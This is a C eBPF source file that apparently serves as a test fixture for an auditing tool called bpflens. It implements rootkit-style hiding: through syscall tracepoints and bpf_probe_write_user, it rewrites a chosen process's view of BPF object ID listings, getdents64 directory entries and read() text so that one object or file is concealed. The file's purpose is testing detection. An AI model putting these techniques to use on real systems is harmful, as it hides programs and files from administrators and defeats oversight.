/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * What rootkits do: change the kernel's answers. Only answers to bpflens are changed, and only about one object or
 * process; test_audit.py selects it and the ways.
 */
#include "hide.bpf.h"

const volatile __u32 lists;	      /* BPF_*_GET_NEXT_ID of the kind */
const volatile __u32 hidden, instead; /* the id; the id in its place, 0: end of the list */
const volatile __u32 iterators;	      /* numbers in the text of iterators are changed */
const volatile __u32 descriptors;     /* lines "prog_id:" are changed */
const volatile __u64 directory;	      /* first bytes of the name of a directory entry that is removed */
const volatile __u64 directory_mask;

enum { GET_NEXT_ID_ATTR = 4, NUMBERS = 1024, BYTES = 512, ENTRIES = 400 };
struct enter {
	__u64 common;
	__s64 nr;
	__u64 arg[6];
};
struct leave {
	__u64 common;
	__s64 nr, ret;
};
struct entry {
	__u64 ino, off;
	__u16 reclen;
	__u8 type;
	char name[8];
} __attribute__((packed));

struct {
	__uint(type, MAP_HASH);
	__uint(max_entries, 64);
	__type(key, __u64);
	__type(value, __u64);
} where SEC(".maps");

static __always_inline int keep(__u64 address)
{
	__u64 key = bpf_get_current_pid_tgid();

	if (is_victim())
		bpf_map_update_elem(&where, &key, &address, 0);
	return 0;
}

static __always_inline __u64 kept(void)
{
	__u64 key = bpf_get_current_pid_tgid(), ret = 0, *p = bpf_map_lookup_elem(&where, &key);

	if (!p)
		return 0;
	ret = *p;
	bpf_map_delete_elem(&where, &key);
	return ret;
}

SEC("tracepoint/syscalls/sys_enter_bpf") int list_enter(struct enter *ctx)
{
	return ctx->arg[0] == lists ? keep(ctx->arg[1]) : 0;
}

SEC("tracepoint/syscalls/sys_exit_bpf") int list_exit(struct leave *ctx)
{
	__u64 attr = kept();
	__u32 id[2] = { 0 }; /* start_id, next_id */

	if (!attr || ctx->ret || bpf_probe_read_user(id, sizeof(id), (void *)attr) || id[1] != hidden)
		return 0;
	id[1] = instead ? instead : id[0];
	bpf_probe_write_user((void *)(attr + GET_NEXT_ID_ATTR), &id[1], sizeof(id[1]));
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_getdents64") int directory_enter(struct enter *ctx)
{
	return keep(ctx->arg[1]);
}

SEC("tracepoint/syscalls/sys_exit_getdents64") int directory_exit(struct leave *ctx)
{
	__u64 at = kept(), end = at + ctx->ret, before = 0;
	struct entry e;

	for (int i = 0; at && i < ENTRIES && at < end; i++) {
		__u16 len;

		if (bpf_probe_read_user(&e, sizeof(e), (void *)at))
			break;
		if ((*(__u64 *)e.name & directory_mask) == directory && before) {
			if (bpf_probe_read_user(&len, sizeof(len), (void *)(before + 16)))
				break;
			len += e.reclen;
			bpf_probe_write_user((void *)(before + 16), &len, sizeof(len));
			break;
		}
		before = at;
		at += e.reclen;
	}
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_read") int read_enter(struct enter *ctx)
{
	return keep(ctx->arg[1]);
}

struct text {
	__u64 at;
};

static long number_left(__u32 i, struct text *t)
{
	void *at = (void *)(t->at + 4 * i);
	__u32 id;

	if (!bpf_probe_read_user(&id, sizeof(id), at) && id == hidden)
		bpf_probe_write_user(at, (const void *)&instead, sizeof(instead));
	return 0;
}

static long descriptor_left(__u32 i, struct text *t)
{
	const __u64 word = 0x3a64695f676f7270ull; /* "prog_id:" */
	void *at = (void *)(t->at + i);
	__u64 text;

	if (!bpf_probe_read_user(&text, sizeof(text), at) && text == word)
		bpf_probe_write_user(at, &(const char){ '?' }, 1);
	return 0;
}

static __always_inline int read_left(__u64 at, __s64 n)
{
	struct text t = { at };

	if (iterators && n > 0)
		bpf_loop(n < 4 * NUMBERS ? n / 4 : NUMBERS, number_left, &t, 0);
	if (descriptors && n >= 8)
		bpf_loop(n < BYTES ? n - 7 : BYTES, descriptor_left, &t, 0);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_read") int read_exit(struct leave *ctx)
{
	__u64 at = kept();

	return at ? read_left(at, ctx->ret) : 0;
}
